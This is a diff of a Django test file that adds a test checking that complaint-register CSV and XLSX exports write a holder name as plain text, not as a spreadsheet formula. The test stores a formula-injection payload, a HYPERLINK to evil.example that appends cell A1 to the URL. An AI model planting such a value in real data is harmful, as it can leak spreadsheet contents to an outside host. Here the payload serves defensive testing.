@@ -133,3 +133,19 @@ def test_overdue_items_are_reminded_once_a_day(cases, handler, body_manager, cer
 def test_the_reminder_runs_daily_from_the_beat_schedule(settings) -> None:
     tasks = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
     assert "audits.tasks.send_case_overdue_reminders" in tasks
+
+
+def test_the_exports_never_carry_a_formula_from_a_holders_name(cases, body_manager, certificate) -> None:
+    """A holder registered as a formula is written as text in the CSV and the workbook."""
+    from audits.models import Certificate
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+    Certificate.objects.filter(pk=certificate.pk).update(holder_name=hostile)
+    client = client_for(body_manager)
+    text = client.get(reverse("audits:complaint_register_export", args=["csv"])).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not any(cell.startswith("=") for cell in cells)
+    assert any(hostile in cell for cell in cells)  # kept, as text
+    workbook = client.get(reverse("audits:complaint_register_export", args=["xlsx"])).content
+    sheet = load_workbook(io.BytesIO(workbook)).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
